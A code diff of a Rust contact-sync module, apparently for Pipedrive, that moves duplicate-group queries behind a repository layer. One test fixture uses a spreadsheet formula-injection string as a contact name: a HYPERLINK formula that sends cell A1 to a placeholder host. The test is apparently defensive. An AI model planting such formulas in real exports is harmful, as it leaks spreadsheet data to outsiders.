@@ -6,10 +6,6 @@
 use std::collections::{BTreeMap, BTreeSet};
 
 use chrono::{DateTime, Utc};
-use sea_orm::sea_query::{Expr, OnConflict};
-use sea_orm::{
-    ColumnTrait, ConnectionTrait, EntityTrait, QueryFilter, QueryOrder, Set, TransactionTrait,
-};
 use serde::Serialize;
 use tandem_core::{FieldKey, FieldValue};
 use uuid::Uuid;
@@ -20,7 +16,8 @@ use super::links::{self, Link};
 use super::synclog::{self, Direction, Entry, Level};
 use super::{inbound, Engine, SyncError};
 use crate::queue::{self, JobPayload, Priority};
-use crate::store::entities::{contact, duplicate_group, outbox_job, person_link};
+use crate::store::duplicates::{self as stored_groups, GroupRow};
+use crate::store::Conn;
 
 pub mod kind {
     /// Several Pipedrive persons share an e-mail (each is its own local contact).
@@ -75,17 +72,9 @@ pub async fn list(
     include_closed: bool,
 ) -> Result<Vec<Group>, SyncError> {
     let db = engine.store.db();
-    let live = contact::Entity::find()
-        .filter(contact::Column::ArchivedAt.is_null())
-        .filter(contact::Column::Email.is_not_null())
-        .order_by_asc(contact::Column::Email)
-        .all(db)
-        .await?;
     let mut by_email: BTreeMap<String, Vec<Uuid>> = BTreeMap::new();
-    for row in live {
-        if let Some(email) = row.email {
-            by_email.entry(email).or_default().push(row.id);
-        }
+    for (email, id) in stored_groups::live_contact_emails(&engine.store).await? {
+        by_email.entry(email).or_default().push(id);
     }
     let now = engine.now();
     let mut groups = Vec::new();
@@ -142,54 +131,34 @@ pub async fn list(
     }
     // Groups that no longer have two records were resolved (merged, deleted, e-mail changed).
     let current: Vec<String> = groups.iter().map(|g| g.key.clone()).collect();
-    duplicate_group::Entity::update_many()
-        .col_expr(duplicate_group::Column::State, Expr::value(state::RESOLVED))
-        .col_expr(duplicate_group::Column::UpdatedAt, Expr::value(now))
-        .filter(duplicate_group::Column::ConnectionId.eq(conn.id))
-        .filter(
-            duplicate_group::Column::Kind.is_in([kind::SAME_EMAIL_PERSONS, kind::LOCAL_COLLISION]),
-        )
-        .filter(duplicate_group::Column::State.eq(state::OPEN))
-        .filter(duplicate_group::Column::GroupKey.is_not_in(current))
-        .exec(db)
-        .await?;
+    let computed = [kind::SAME_EMAIL_PERSONS, kind::LOCAL_COLLISION];
+    stored_groups::set_state_except(
+        db,
+        conn.id,
+        &computed,
+        state::OPEN,
+        state::RESOLVED,
+        current,
+        now,
+    )
+    .await?;
+    let mut stored = Vec::new();
     if include_closed {
-        let resolved = duplicate_group::Entity::find()
-            .filter(duplicate_group::Column::ConnectionId.eq(conn.id))
-            .filter(
-                duplicate_group::Column::Kind
-                    .is_in([kind::SAME_EMAIL_PERSONS, kind::LOCAL_COLLISION]),
-            )
-            .filter(duplicate_group::Column::State.eq(state::RESOLVED))
-            .all(db)
-            .await?;
-        for row in resolved {
-            let members: Vec<Member> = serde_json::from_value(row.members).unwrap_or_default();
-            groups.push(Group {
-                id: row.id,
-                kind: row.kind,
-                key: row.group_key,
-                state: row.state,
-                members,
-                differing_fields: Vec::new(),
-            });
-        }
+        stored = stored_groups::list(db, conn.id, &computed, Some(state::RESOLVED)).await?;
     }
     // apId conflicts are recorded when they are seen (inbound), not computed.
-    let recorded = duplicate_group::Entity::find()
-        .filter(duplicate_group::Column::ConnectionId.eq(conn.id))
-        .filter(duplicate_group::Column::Kind.eq(kind::APID_CONFLICT))
-        .all(db)
-        .await?;
-    for row in recorded
-        .into_iter()
-        .filter(|r| include_closed || r.state == state::OPEN)
-    {
+    stored.extend(
+        stored_groups::list(db, conn.id, &[kind::APID_CONFLICT], None)
+            .await?
+            .into_iter()
+            .filter(|r| include_closed || r.state == state::OPEN),
+    );
+    for row in stored {
         let members: Vec<Member> = serde_json::from_value(row.members).unwrap_or_default();
         groups.push(Group {
             id: row.id,
             kind: row.kind,
-            key: row.group_key,
+            key: row.key,
             state: row.state,
             members,
             differing_fields: Vec::new(),
@@ -199,13 +168,15 @@ pub async fn list(
 }
 
 /// Records that `persons` both claim `contact` (one by its link, the other by its apId).
-pub(crate) async fn record_apid_conflict<C: ConnectionTrait>(
+pub(crate) async fn record_apid_conflict<C: Conn>(
     txn: &C,
     connection: Uuid,
     contact: Uuid,
     persons: &[i64],
     now: DateTime<Utc>,
 ) -> Result<(), SyncError> {
+    // The contact repository still takes the raw connection.
+    let txn = txn.raw();
     let updated_at = contacts::load(txn, contact)
         .await?
         .map_or(now, |c| c.updated_at);
@@ -231,60 +202,21 @@ pub(crate) async fn record_apid_conflict<C: ConnectionTrait>(
     Ok(())
 }
 
-async fn upsert<C: ConnectionTrait>(
-    db: &C,
+async fn upsert(
+    db: &impl Conn,
     connection: Uuid,
     kind: &str,
     key: &str,
     members: &[Member],
     now: DateTime<Utc>,
-) -> Result<duplicate_group::Model, SyncError> {
-    let members_json = serde_json::to_value(members).unwrap_or_default();
-    duplicate_group::Entity::insert(duplicate_group::ActiveModel {
-        id: Set(Uuid::now_v7()),
-        connection_id: Set(Some(connection)),
-        kind: Set(kind.to_owned()),
-        group_key: Set(key.to_owned()),
-        state: Set(state::OPEN.to_owned()),
-        members: Set(members_json),
-        created_at: Set(now),
-        updated_at: Set(now),
-    })
-    .on_conflict(
-        OnConflict::columns([
-            duplicate_group::Column::ConnectionId,
-            duplicate_group::Column::Kind,
-            duplicate_group::Column::GroupKey,
-        ])
-        .update_columns([
-            duplicate_group::Column::Members,
-            duplicate_group::Column::UpdatedAt,
-        ])
-        .to_owned(),
-    )
-    .exec_without_returning(db)
-    .await?;
-    duplicate_group::Entity::find()
-        .filter(duplicate_group::Column::ConnectionId.eq(connection))
-        .filter(duplicate_group::Column::Kind.eq(kind))
-        .filter(duplicate_group::Column::GroupKey.eq(key))
-        .one(db)
-        .await?
-        .ok_or_else(|| SyncError::Corrupt("duplicate group vanished".into()))
+) -> Result<GroupRow, SyncError> {
+    let members = serde_json::to_value(members).unwrap_or_default();
+    Ok(stored_groups::upsert(db, connection, kind, key, members, state::OPEN, now).await?)
 }
 
 /// Sets a group's state (ignore is remembered: the group stays out of the open list).
 pub async fn set_state(engine: &Engine, group: Uuid, new_state: &str) -> Result<bool, SyncError> {
-    let result = duplicate_group::Entity::update_many()
-        .col_expr(duplicate_group::Column::State, Expr::value(new_state))
-        .col_expr(
-            duplicate_group::Column::UpdatedAt,
-            Expr::value(engine.now()),
-        )
-        .filter(duplicate_group::Column::Id.eq(group))
-        .exec(engine.store.db())
-        .await?;
-    Ok(result.rows_affected > 0)
+    Ok(stored_groups::set_state(&engine.store, group, new_state, engine.now()).await?)
 }
 
 /// Where a person is used in Pipedrive (asked on demand: it costs API tokens).
@@ -342,7 +274,7 @@ pub async fn merge_persons(
         .get_person(&conn.session, &conn.map, survivor)
         .await?;
     let now = engine.now();
-    let txn = db.begin().await?;
+    let txn = engine.store.begin().await?;
     if let Some(merged_link) = links::by_person(&txn, conn.id, merged).await? {
         absorb(&txn, conn, merged_link, &survivor_link, now).await?;
     }
@@ -354,13 +286,15 @@ pub async fn merge_persons(
 /// The link of a person merged away in Pipedrive, when the survivor is linked to another
 /// contact: the merged contact's unsent edits move to the survivor's contact, its pending jobs
 /// are dropped (they would re-create the person), and it is unlinked and archived (kept).
-pub(crate) async fn absorb<C: ConnectionTrait>(
+pub(crate) async fn absorb<C: Conn>(
     txn: &C,
     conn: &ConnectionCtx,
     merged: Link,
     survivor: &Link,
     now: DateTime<Utc>,
 ) -> Result<(), SyncError> {
+    // The contact repository still takes the raw connection.
+    let txn = txn.raw();
     let merged_contact = contacts::load(txn, merged.contact_id)
         .await?
         .ok_or(SyncError::ContactNotFound(merged.contact_id))?;
@@ -392,15 +326,14 @@ pub(crate) async fn absorb<C: ConnectionTrait>(
         )
         .await?;
     }
-    outbox_job::Entity::delete_many()
-        .filter(outbox_job::Column::ConnectionId.eq(conn.id))
-        .filter(outbox_job::Column::OrderingKey.eq(merged.contact_id.to_string()))
-        .filter(outbox_job::Column::State.ne(queue::state::RUNNING))
-        .exec(txn)
-        .await?;
-    person_link::Entity::delete_by_id(merged.id)
-        .exec(txn)
-        .await?;
+    crate::store::queue::delete_jobs_of_key(
+        txn,
+        conn.id,
+        &merged.contact_id.to_string(),
+        queue::state::RUNNING,
+    )
+    .await?;
+    links::delete(txn, merged.id).await?;
     contacts::remove_from_list(txn, merged.contact_id, contacts::PIPEDRIVE_LIST).await?;
     contacts::set_archived(txn, merged.contact_id, true, now).await?;
     synclog::record(
@@ -412,7 +345,8 @@ pub(crate) async fn absorb<C: ConnectionTrait>(
             .detail(serde_json::json!({ "merged_person": merged.person_id, "merged_contact": merged.contact_id, "carried_fields": carried.keys().map(ToString::to_string).collect::<Vec<_>>() })),
         now,
     )
-    .await
+    .await?;
+    Ok(())
 }
 
 /// Links a local contact to a chosen person (replacing any link either had).
@@ -422,13 +356,12 @@ pub async fn link_contact(
     contact_id: Uuid,
     person_id: i64,
 ) -> Result<(), SyncError> {
-    let db = engine.store.db();
     let person = engine
         .crm
         .get_person(&conn.session, &conn.map, person_id)
         .await?;
     let now = engine.now();
-    let txn = db.begin().await?;
+    let txn = engine.store.begin().await?;
     contacts::load(&txn, contact_id)
         .await?
         .ok_or(SyncError::ContactNotFound(contact_id))?;
@@ -522,7 +455,7 @@ mod tests {
                 person_id: Some(7),
                 name: Some("=HYPERLINK(\"http://x/?\"&A1,\"click\")\r\nnext".to_owned()),
                 archived: false,
-                updated_at: Utc::now(),
+                updated_at: DateTime::<Utc>::UNIX_EPOCH,
             }],
             differing_fields: vec![],
         };
